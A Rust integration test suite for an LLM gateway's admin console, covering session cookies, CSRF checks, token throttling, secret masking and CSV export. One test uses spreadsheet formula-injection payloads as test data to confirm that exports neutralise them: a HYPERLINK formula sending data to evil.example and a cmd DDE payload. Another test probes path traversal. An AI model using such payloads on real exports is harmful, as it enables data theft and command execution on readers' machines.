//! The admin console (`/ui/`) and the admin API it reads: signing in (HttpOnly, SameSite=Strict
//! session cookie; CSRF token on every change), the records list, one record, usage over time,
//! the CSV export, a project's keys, the routes with masked settings; and the whole console in
//! a real browser (Debian's Chromium driven by Playwright, `tests/console/console_test.py`).

use std::path::Path;
use std::time::{Duration, Instant};

use gateway_test_support::refused::refused_start;
use gateway_test_support::{Gateway, OpenAiUpstream, Reply, Response, Route, TestDatabase};
use serde_json::{Value, json};

use crate::venv;

const ADMIN_TOKEN: &str = "admin-secret-for-the-console-tests-0123456789";
const MODEL: &str = "gpt-4o-mini";
/// The browser the console test drives; Debian's `chromium` package puts it here.
const CHROMIUM_VAR: &str = "GATEWAY_TEST_CHROMIUM";
const CHROMIUM: &str = "/usr/bin/chromium";

/// An upstream that answers every chat completion.
fn upstream() -> OpenAiUpstream {
    let usage = json!({"prompt_tokens": 10, "completion_tokens": 2, "total_tokens": 12});
    OpenAiUpstream::each_call(Reply::openai_answer(MODEL, "hello from upstream", usage))
}

/// The JSON body of `response`, which must have `status`.
fn expect(response: &Response, status: u16) -> Value {
    assert_eq!(response.status, status, "{}", response.text());
    response.json()
}

fn ok(response: &Response) -> Value {
    expect(response, 200)
}

fn created(response: &Response) -> Value {
    expect(response, 201)
}

fn console_gateway(upstream: &OpenAiUpstream) -> Gateway {
    console_gateway_on(upstream, None, &[])
}

/// The console's gateway, on `db` when given (a replica of every other gateway on it), with
/// more `routes` before its own.
fn console_gateway_on(
    upstream: &OpenAiUpstream,
    db: Option<&TestDatabase>,
    routes: &[Route],
) -> Gateway {
    let builder = match db {
        Some(db) => Gateway::builder().database(db),
        None => Gateway::builder(),
    };
    routes
        .iter()
        .fold(builder, |builder, route| builder.route(route.clone()))
        .route(
            Route::openai("openai", &upstream.base_url("/v1"))
                .key("api_key_required", "false")
                .key(
                    "settings",
                    "{ legacy_completions = false, api_key_header = \"x-hidden-header\" }",
                )
                .price(MODEL, 1.0, 2.0),
        )
        .config_line(&format!("admin_token = \"{ADMIN_TOKEN}\""))
        .start()
}

fn chat(gw: &Gateway, key: &str, text: &str) -> Response {
    let body = json!({
        "model": format!("openai/{MODEL}"),
        "messages": [{"role": "user", "content": text}],
        "max_tokens": 8,
    });
    gw.post_as("/v1/chat/completions", Some(key), &body)
}

/// The `name=value` of the response's `Set-Cookie`.
fn cookie_of(response: &Response) -> String {
    let set = response
        .header("set-cookie")
        .unwrap_or_else(|| panic!("no Set-Cookie: {:?}", response.headers));
    set.split(';').next().unwrap_or_default().to_owned()
}

/// Signs in; returns the cookie and the CSRF token.
fn sign_in(gw: &Gateway) -> (String, String) {
    let body = json!({ "token": ADMIN_TOKEN }).to_string();
    let response = gw.request("POST", "/ui/login", None, &[], body.as_bytes());
    let session = ok(&response);
    let set = response.header("set-cookie").unwrap_or_default().to_owned();
    for part in ["HttpOnly", "SameSite=Strict", "Path=/", "Max-Age=43200"] {
        assert!(set.contains(part), "{set}");
    }
    let csrf = session["csrf"].as_str().expect("a CSRF token").to_owned();
    (cookie_of(&response), csrf)
}

/// `POST /ui/login` with `token`.
fn login(gw: &Gateway, token: &str) -> Response {
    let body = json!({ "token": token }).to_string();
    gw.request("POST", "/ui/login", None, &[], body.as_bytes())
}

/// An admin API call with the session's cookie (and its CSRF token when given).
fn with_session(
    gw: &Gateway,
    method: &str,
    path: &str,
    cookie: &str,
    csrf: Option<&str>,
    body: &str,
) -> Response {
    let mut headers = vec![("cookie", cookie)];
    if let Some(csrf) = csrf {
        headers.push(("x-csrf-token", csrf));
    }
    gw.request(method, path, None, &headers, body.as_bytes())
}

fn admin_get(gw: &Gateway, path: &str) -> Value {
    ok(&gw.get(path, Some(ADMIN_TOKEN)))
}

#[test]
fn the_page_and_its_assets_are_served_with_a_strict_policy() {
    let upstream = upstream();
    let gw = console_gateway(&upstream);
    let redirect = gw.get("/ui", None);
    assert_eq!(redirect.status, 308);
    assert_eq!(redirect.header("location"), Some("/ui/"));
    let page = gw.get("/ui/", None);
    assert_eq!(page.status, 200);
    assert!(page.text().contains("assets/app.js"), "{}", page.text());
    let csp = page.header("content-security-policy").unwrap_or_default();
    assert!(csp.contains("script-src 'self'") && csp.contains("frame-ancestors 'none'"));
    assert_eq!(page.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(page.header("x-frame-options"), Some("DENY"));
    for (asset, kind) in [
        ("app.js", "text/javascript"),
        ("app.css", "text/css"),
        ("uPlot.iife.min.js", "text/javascript"),
        ("uPlot.min.css", "text/css"),
    ] {
        let response = gw.get(&format!("/ui/assets/{asset}"), None);
        assert_eq!(response.status, 200, "{asset}");
        assert!(
            response
                .header("content-type")
                .unwrap_or_default()
                .starts_with(kind),
            "{asset}"
        );
        assert!(!response.body.is_empty());
        assert_eq!(response.header("x-frame-options"), Some("DENY"), "{asset}");
    }
    assert_eq!(gw.get("/ui/assets/../../Cargo.toml", None).status, 404);
    assert_eq!(gw.get("/ui/nothing", None).status, 404);
    // No admin token, no console.
    let plain = Gateway::builder().route(Route::echo("demo")).start();
    let off = plain.get("/ui/", None);
    assert_eq!(off.status, 404);
    assert!(off.text().contains("admin_token"), "{}", off.text());
}

#[test]
fn a_session_reads_with_its_cookie_and_changes_only_with_its_csrf_token() {
    let upstream = upstream();
    let gw = console_gateway(&upstream);
    // A wrong token: 401, no cookie.
    let wrong = gw.request("POST", "/ui/login", None, &[], br#"{"token": "guess"}"#);
    assert_eq!(wrong.status, 401, "{}", wrong.text());
    assert!(wrong.header("set-cookie").is_none());
    assert!(wrong.json()["invocationId"].is_string());
    assert_eq!(gw.get("/ui/session", None).status, 401);

    let (cookie, csrf) = sign_in(&gw);
    let session = with_session(&gw, "GET", "/ui/session", &cookie, None, "");
    assert_eq!(ok(&session)["csrf"], csrf.as_str());
    // Reads: the cookie is enough.
    let projects = with_session(&gw, "GET", "/admin/projects", &cookie, None, "");
    ok(&projects);
    // Changes: not without the session's CSRF token, nor with another's.
    let create = r#"{"name": "from the console"}"#;
    let refused = with_session(&gw, "POST", "/admin/projects", &cookie, None, create);
    assert_eq!(refused.status, 403, "{}", refused.text());
    let (_, other_csrf) = sign_in(&gw);
    let refused = with_session(
        &gw,
        "POST",
        "/admin/projects",
        &cookie,
        Some(&other_csrf),
        create,
    );
    assert_eq!(refused.status, 403, "{}", refused.text());
    let created = with_session(&gw, "POST", "/admin/projects", &cookie, Some(&csrf), create);
    assert_eq!(created.status, 201, "{}", created.text());
    // A forged cookie is no session: its last character changed (to another one: a cookie
    // that ended in `0` made this test pass the cookie itself one run in sixteen).
    let other = if cookie.ends_with('0') { '1' } else { '0' };
    let forged = format!("{}{other}", &cookie[..cookie.len() - 1]);
    let forged = with_session(&gw, "GET", "/admin/projects", &forged, None, "");
    assert_eq!(forged.status, 401);
    // Signing out clears the cookie (and signs it out: see below).
    let out = with_session(&gw, "POST", "/ui/logout", &cookie, Some(&csrf), "");
    assert_eq!(out.status, 204);
    assert!(
        out.header("set-cookie")
            .unwrap_or_default()
            .contains("Max-Age=0")
    );
}

/// Ten wrong tokens a minute from one address, at the console's sign-in and as the admin API's
/// bearer alike; then the address is refused (429, `Retry-After`) without its token being
/// compared: the right one too.
#[test]
fn wrong_admin_tokens_are_throttled_per_client_address() {
    let upstream = upstream();
    let gw = console_gateway(&upstream);
    // A right token does not count, however often.
    for _ in 0..20 {
        sign_in(&gw);
        ok(&gw.get("/admin/projects", Some(ADMIN_TOKEN)));
    }
    for n in 0..5 {
        let wrong = login(&gw, &format!("guess-{n}"));
        assert_eq!(wrong.status, 401, "{}", wrong.text());
        let wrong = gw.get("/admin/projects", Some(&format!("guess-{n}")));
        assert_eq!(wrong.status, 401, "{}", wrong.text());
    }
    for throttled in [
        login(&gw, "guess-10"),
        login(&gw, ADMIN_TOKEN),
        gw.get("/admin/projects", Some(ADMIN_TOKEN)),
        gw.get("/admin/plugins", Some(ADMIN_TOKEN)),
    ] {
        let body = expect(&throttled, 429);
        assert!(
            body["error"]
                .as_str()
                .is_some_and(|e| e.contains("too many wrong admin tokens")),
            "{body}"
        );
        assert!(body["invocationId"].is_string(), "{body}");
        let retry_after: u64 = throttled
            .header("retry-after")
            .and_then(|v| v.parse().ok())
            .unwrap_or_else(|| panic!("no Retry-After: {:?}", throttled.headers));
        assert!((1..=6).contains(&retry_after), "{retry_after}");
        assert!(throttled.header("set-cookie").is_none());
    }
    // What takes no token is not held back.
    assert_eq!(gw.get("/ui/", None).status, 200);
    ok(&chat(&gw, &gw.key, "still served"));
    // The log names the address of the wrong tokens, never a token (the ten refusals' lines
    // may reach the log a moment after their answers).
    gw.wait_for_log("wrong admin token was refused", 10);
    let logs = gw.logs();
    assert!(
        logs.contains("wrong admin token") && logs.contains("127.0.0.1"),
        "{logs}"
    );
    assert!(
        !logs.contains("guess-") && !logs.contains(ADMIN_TOKEN),
        "{logs}"
    );
}

/// An admin token that could be guessed is refused at start, naming the key, not the token.
#[test]
fn a_gateway_with_an_admin_token_shorter_than_32_bytes_does_not_start() {
    let stderr = refused_start("admin_token = \"short-but-secret\"\n");
    assert!(
        stderr.contains("admin_token: must be at least 32 bytes, not 16"),
        "{stderr}"
    );
    assert!(!stderr.contains("short-but-secret"), "{stderr}");
}

/// Signed out, a session's cookie is refused: the browser's (which it clears) and every copy
/// of it; the operator's other sessions stay signed in.
#[test]
fn a_cookie_signed_out_is_refused_even_copied() {
    let upstream = upstream();
    let gw = console_gateway(&upstream);
    let (cookie, csrf) = sign_in(&gw);
    let (other, other_csrf) = sign_in(&gw);
    ok(&with_session(
        &gw,
        "GET",
        "/admin/projects",
        &cookie,
        None,
        "",
    ));
    let out = with_session(&gw, "POST", "/ui/logout", &cookie, Some(&csrf), "");
    assert_eq!(out.status, 204, "{}", out.text());
    assert!(
        out.header("set-cookie")
            .unwrap_or_default()
            .contains("Max-Age=0")
    );
    let create = r#"{"name": "after sign-out"}"#;
    for (method, path, body) in [
        ("GET", "/ui/session", ""),
        ("GET", "/admin/projects", ""),
        ("GET", "/admin/plugins", ""),
        ("POST", "/admin/projects", create),
    ] {
        let copied = with_session(&gw, method, path, &cookie, Some(&csrf), body);
        assert_eq!(copied.status, 401, "{method} {path}: {}", copied.text());
    }
    // Signing the dead cookie out again has nothing left to do.
    let again = with_session(&gw, "POST", "/ui/logout", &cookie, Some(&csrf), "");
    assert_eq!(again.status, 204, "{}", again.text());
    let still = with_session(
        &gw,
        "POST",
        "/admin/projects",
        &other,
        Some(&other_csrf),
        create,
    );
    assert_eq!(still.status, 201, "{}", still.text());
}

/// On PostgreSQL, a sign-out on one replica reaches the other: the cookie both accepted is
/// refused by both.
#[test]
fn a_cookie_signed_out_on_one_replica_is_refused_by_the_other() {
    let Some(db) = TestDatabase::create() else {
        return;
    };
    let upstream = upstream();
    let a = console_gateway_on(&upstream, Some(&db), &[]);
    let b = console_gateway_on(&upstream, Some(&db), &[]);
    let (cookie, csrf) = sign_in(&a);
    for gw in [&a, &b] {
        ok(&with_session(
            gw,
            "GET",
            "/admin/projects",
            &cookie,
            None,
            "",
        ));
    }
    let out = with_session(&a, "POST", "/ui/logout", &cookie, Some(&csrf), "");
    assert_eq!(out.status, 204, "{}", out.text());
    assert_eq!(
        with_session(&a, "GET", "/admin/projects", &cookie, None, "").status,
        401
    );
    // B hears of it by the database's notification: a moment, not a request.
    let signed_out = Instant::now();
    let refused = loop {
        let status = with_session(&b, "GET", "/admin/projects", &cookie, None, "").status;
        if status == 401 || signed_out.elapsed() > Duration::from_secs(10) {
            break status;
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    assert_eq!(
        refused, 401,
        "replica B still accepts the signed-out cookie"
    );
    println!(
        "replica B refused the cookie after {:?}",
        signed_out.elapsed()
    );
}

#[test]
fn records_are_listed_newest_first_filtered_paged_and_exported() {
    let upstream = upstream();
    let gw = console_gateway(&upstream);
    let project = created(&gw.request(
        "POST",
        "/admin/projects",
        Some(&format!("Bearer {ADMIN_TOKEN}")),
        &[],
        br#"{"name": "listed"}"#,
    ));
    let project_id = project["id"].as_str().unwrap().to_owned();
    let key = created(&gw.request(
        "POST",
        &format!("/admin/projects/{project_id}/keys"),
        Some(&format!("Bearer {ADMIN_TOKEN}")),
        &[],
        b"{}",
    ));
    let key = key["key"].as_str().unwrap().to_owned();
    let ids: Vec<String> = (0..3)
        .map(|n| {
            let response = chat(&gw, &key, &format!("hello {n}"));
            ok(&response);
            response.header("x-invocation-id").unwrap().to_owned()
        })
        .collect();
    // Another project's traffic (the demo project's), which the filter leaves out.
    ok(&chat(&gw, &gw.key, "other"));

    let first = admin_get(
        &gw,
        &format!("/admin/invocations?projectId={project_id}&limit=2"),
    );
    let page: Vec<&str> = first["invocations"]
        .as_array()
        .unwrap()
        .iter()
        .map(|record| record["id"].as_str().unwrap())
        .collect();
    assert_eq!(page, [ids[2].as_str(), ids[1].as_str()], "newest first");
    let next = first["next"].as_str().expect("a next page");
    let second = admin_get(
        &gw,
        &format!("/admin/invocations?projectId={project_id}&limit=2&cursor={next}"),
    );
    assert_eq!(second["invocations"][0]["id"], ids[0].as_str());
    assert_eq!(second["next"], Value::Null);
    let record = &second["invocations"][0];
    assert_eq!(record["status"], "success");
    assert_eq!(
        record["keyPrefix"],
        &key[..record["keyPrefix"].as_str().unwrap().len()]
    );
    assert_eq!(
        record["request"],
        Value::Null,
        "the list leaves the bodies out"
    );

    // Every filter narrows; a bad one is a 400 naming it.
    let none = admin_get(&gw, "/admin/invocations?status=error");
    assert_eq!(none["invocations"].as_array().unwrap().len(), 0);
    let since = admin_get(&gw, "/admin/invocations?since=2999-01-01");
    assert_eq!(since["invocations"].as_array().unwrap().len(), 0);
    let by_model = admin_get(
        &gw,
        &format!("/admin/invocations?model={MODEL}&route=openai"),
    );
    assert_eq!(by_model["invocations"].as_array().unwrap().len(), 4);
    for bad in [
        "status=fine",
        "since=yesterday",
        "limit=0",
        "cursor=x",
        "colour=red",
    ] {
        let response = gw.get(&format!("/admin/invocations?{bad}"), Some(ADMIN_TOKEN));
        assert_eq!(response.status, 400, "{bad}: {}", response.text());
    }

    // One record, its body included.
    let one = admin_get(&gw, &format!("/admin/invocations/{}", ids[0]));
    assert_eq!(one["request"]["messages"][0]["content"], "hello 0");
    assert_eq!(one["bodiesTruncated"], false);
    assert_eq!(one["usage"]["total_tokens"], 12);
    assert!(one["usageCost"].as_f64().unwrap() > 0.0, "{one}");
    let missing = gw.get(
        "/admin/invocations/0190b8a0-0000-7000-8000-000000000000",
        Some(ADMIN_TOKEN),
    );
    assert_eq!(missing.status, 404);

    // Usage by hour and model; the top projects.
    let usage = admin_get(&gw, "/admin/usage?bucket=hour&by=model");
    let rows = usage["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 1, "{usage}");
    assert_eq!(rows[0]["group"], MODEL);
    assert_eq!(rows[0]["requests"], 4);
    assert!(rows[0]["bucket"].as_str().unwrap().ends_with(":00:00.000Z"));
    let top = admin_get(&gw, "/admin/usage?by=project");
    let ours = top["rows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|row| row["group"] == project_id.as_str())
        .unwrap_or_else(|| panic!("{top}"));
    assert_eq!(ours["requests"], 3);
    assert!(ours["costUsd"].as_f64().unwrap() > 0.0);

    // The CSV of the filtered range: a header and three lines.
    let csv = gw.get(
        &format!("/admin/invocations.csv?projectId={project_id}"),
        Some(ADMIN_TOKEN),
    );
    assert_eq!(csv.status, 200);
    assert!(
        csv.header("content-type")
            .unwrap_or_default()
            .starts_with("text/csv")
    );
    assert!(
        csv.header("content-disposition")
            .unwrap_or_default()
            .contains("attachment")
    );
    let text = csv.text();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 4, "{text}");
    assert!(lines[0].starts_with("id,created_at,project_id"));
    assert!(lines[1].starts_with(&ids[0]), "oldest first: {text}");
}

/// The cells of `text` (a CSV export with its header) in the `column`s named, one row per
/// line, as a spreadsheet's CSV reader reads them.
fn csv_cells(text: &str, columns: &[&str]) -> Vec<Vec<String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().expect("a header").clone();
    let at: Vec<usize> = columns
        .iter()
        .map(|name| {
            header
                .iter()
                .position(|h| h == *name)
                .unwrap_or_else(|| panic!("no {name} in {header:?}"))
        })
        .collect();
    reader
        .records()
        .map(|row| {
            let row = row.unwrap_or_else(|e| panic!("not CSV: {e}\n{text}"));
            at.iter().map(|&i| row[i].to_owned()).collect()
        })
        .collect()
}

#[test]
fn a_callers_formula_is_exported_as_text_by_the_admin_csv_and_the_cli() {
    let upstream = upstream();
    let gw = console_gateway(&upstream);
    let hyperlink = r#"=HYPERLINK("https://evil.example/?d="&A1,"open")"#;
    let sent = [
        (hyperlink, "@SUM(1+1)"),
        ("+cmd|' /C calc'!A0", "-2+3"),
        ("\t=1+1", MODEL),
    ];
    for (user, model) in sent {
        let body = json!({
            "model": format!("openai/{model}"),
            "messages": [{"role": "user", "content": "hi"}],
            "max_tokens": 8,
            "user": user,
        });
        let response = gw.post_as("/v1/chat/completions", Some(&gw.key), &body);
        ok(&response);
        gw.record(response.header("x-invocation-id").expect("an id"));
    }
    let expected: Vec<Vec<String>> = sent
        .iter()
        .map(|(user, model)| {
            let model = if model.starts_with(['@', '-']) {
                format!("'{model}")
            } else {
                (*model).to_owned()
            };
            vec![
                format!("'{user}"),
                model,
                "openai".to_owned(),
                "12".to_owned(),
            ]
        })
        .collect();
    let columns = ["user_id", "model", "route", "total_tokens"];

    let admin = gw.get(
        &format!("/admin/invocations.csv?projectId={}", gw.project_id),
        Some(ADMIN_TOKEN),
    );
    assert_eq!(admin.status, 200, "{}", admin.text());
    assert_eq!(
        csv_cells(&admin.text(), &columns),
        expected,
        "{}",
        admin.text()
    );

    let since = &yesterday();
    let cli = gw.cli_ok(&[
        "invocations",
        "export",
        "--since",
        since,
        "--project",
        &gw.project_id,
        "--format",
        "csv",
    ]);
    assert_eq!(csv_cells(&cli, &columns), expected, "{cli}");
    // No cell of either starts as a formula would.
    for text in [admin.text(), cli] {
        for row in csv::Reader::from_reader(text.as_bytes()).records() {
            let row = row.expect("CSV");
            for cell in row.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell:?} in {text}"
                );
            }
        }
    }
}

/// Yesterday's UTC date (`YYYY-MM-DD`): a `--since` that takes in every record of the test,
/// whenever it runs.
fn yesterday() -> String {
    let yesterday = std::time::SystemTime::now() - std::time::Duration::from_secs(86_400);
    humantime::format_rfc3339(yesterday).to_string()[..10].to_owned()
}

#[test]
fn keys_and_routes_show_no_secret() {
    let upstream = upstream();
    // An upstream that takes its credentials in its URL (never called here).
    let in_url = Route::openai(
        "in-url",
        "https://operator:pa55word-in-url@upstream.example/v1?key=query-value-1&sig=query-value-2",
    );
    let gw = console_gateway_on(&upstream, None, &[in_url]);
    let bearer = format!("Bearer {ADMIN_TOKEN}");
    let project = created(&gw.request(
        "POST",
        "/admin/projects",
        Some(&bearer),
        &[],
        br#"{"name": "keys"}"#,
    ));
    let id = project["id"].as_str().unwrap();
    let path = format!("/admin/projects/{id}/keys");
    let first = created(&gw.request("POST", &path, Some(&bearer), &[], b"{}"));
    // Keys of one millisecond are listed by prefix: these two are a millisecond apart.
    std::thread::sleep(std::time::Duration::from_millis(5));
    let scoped =
        br#"{"routes": ["openai"], "tools": ["calc__*"], "expires": "30d", "limits": {"rpm": 5}}"#;
    let second = created(&gw.request("POST", &path, Some(&bearer), &[], scoped));
    let prefix = first["prefix"].as_str().unwrap();
    let revoked = gw.request(
        "DELETE",
        &format!("/admin/keys/{prefix}"),
        Some(&bearer),
        &[],
        b"",
    );
    ok(&revoked);

    let listed = admin_get(&gw, &path);
    let text = listed.to_string();
    for key in [&first["key"], &second["key"]] {
        assert!(
            !text.contains(key.as_str().unwrap()),
            "a whole key is listed: {text}"
        );
    }
    let keys = listed["keys"].as_array().unwrap();
    assert_eq!(keys.len(), 2);
    assert_eq!(keys[0]["prefix"], second["prefix"], "newest first");
    assert_eq!(keys[0]["routes"], json!(["openai"]));
    assert_eq!(keys[0]["tools"], json!(["calc__*"]));
    assert_eq!(keys[1]["tools"], json!([]));
    assert_eq!(keys[0]["limits"]["rpm"], 5);
    assert!(keys[0]["expiresAt"].is_string() && keys[0]["revokedAt"].is_null());
    assert!(keys[1]["revokedAt"].is_string());
    let unknown = gw.get("/admin/projects/nope/keys", Some(ADMIN_TOKEN));
    assert_eq!(unknown.status, 404);

    let routes = admin_get(&gw, "/admin/routes");
    let route = &routes["routes"][0];
    assert_eq!(route["id"], "in-url");
    assert_eq!(
        route["targets"][0]["baseUrl"],
        "https://operator:••••@upstream.example/v1?key=••••&sig=••••"
    );
    for secret in ["pa55word-in-url", "query-value-1", "query-value-2"] {
        assert!(!routes.to_string().contains(secret), "{secret}: {routes}");
    }
    let route = &routes["routes"][1];
    assert_eq!(route["id"], "openai");
    assert_eq!(route["pluginStatus"], "serving");
    assert_eq!(route["targets"][0]["ejected"], false);
    assert_eq!(route["settings"]["legacy_completions"], false);
    assert_eq!(route["settings"]["api_key_header"], "••••");
    assert!(!routes.to_string().contains("x-hidden-header"), "{routes}");

    let plugins = admin_get(&gw, "/admin/plugins");
    let openai = plugins["plugins"]
        .as_array()
        .unwrap()
        .iter()
        .find(|plugin| plugin["plugin"] == "openai")
        .unwrap_or_else(|| panic!("{plugins}"));
    assert!(
        openai["instances"]["loaded"].as_u64().unwrap() >= 1,
        "{openai}"
    );
}

/// The whole console in Chromium: `tests/console/console_test.py` signs in (a wrong token
/// refused), creates a project (its tools set and shown) and a key with the form's tools, sends
/// requests with the OpenAI SDK, finds them in the invocations and the overview, opens one, sets
/// a budget, revokes the key (the next request is a 401) and signs out, with no JavaScript
/// error; screenshots in `target/ui-screenshots/`.
#[test]
fn the_console_in_a_real_browser() {
    // `cargo xtask test` found no browser and could not install one: said loudly, and a
    // failure under CI, which must run everything.
    if let Ok(why) = std::env::var("GATEWAY_TEST_NO_BROWSER") {
        gateway_test_support::skip_outside_ci("the console's browser test", &why);
        return;
    }
    let python = venv::python();
    let chromium = std::env::var(CHROMIUM_VAR).unwrap_or_else(|_| CHROMIUM.to_owned());
    assert!(
        Path::new(&chromium).exists(),
        "no browser at {chromium}: install Debian's chromium package (.ci/run does), or set \
         {CHROMIUM_VAR}"
    );
    let upstream = upstream();
    let gw = console_gateway(&upstream);
    let screenshots = venv::workspace_root().join("target").join("ui-screenshots");
    std::fs::create_dir_all(&screenshots).unwrap();
    let scenario = json!({
        "url": gw.url(),
        "adminToken": ADMIN_TOKEN,
        "model": format!("openai/{MODEL}"),
        "chromium": chromium,
        "screenshots": screenshots,
    });
    let mut command = venv::command(&python);
    command
        .arg("tests/console/console_test.py")
        .env("GATEWAY_CONSOLE_SCENARIO", scenario.to_string());
    let output = command
        .output()
        .unwrap_or_else(|e| panic!("cannot run {}: {e}", python.display()));
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    println!("{stdout}");
    assert!(
        output.status.success(),
        "the console test failed ({}):\n{stdout}\n{stderr}\n--- gateway log ---\n{}",
        output.status,
        gw.logs()
    );
    for page in [
        "login",
        "project",
        "invocations",
        "invocation",
        "overview",
        "plugins",
    ] {
        let shot = screenshots.join(format!("{page}.png"));
        assert!(shot.exists(), "no screenshot {}", shot.display());
    }
}
